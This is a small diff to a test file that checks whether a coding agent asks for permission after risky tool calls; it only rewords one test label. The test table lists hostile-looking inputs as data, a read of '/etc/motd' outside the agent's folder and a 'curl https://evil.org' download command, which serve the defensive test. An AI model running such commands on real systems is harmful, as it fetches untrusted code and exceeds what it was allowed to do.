@@ -121,7 +121,7 @@ describe('pitfall 13: a coding agent', () => {
   test.each([
     ['a file outside its folder', 'read', { file_path: '/etc/motd' }, '/etc/motd'],
     ['a download', 'execute', { command: 'curl https://evil.org' }, 'curl https://evil.org'],
-    ['what a tool returned that nobody knows', 'other', { query: 'x' }, 'other'],
+    ['the result of an unknown tool', 'other', { query: 'x' }, 'other'],
   ])('asks after it has read %s', async (_what, kind, input, from) => {
     const { bound, working } = await coding();
     const agent = working();
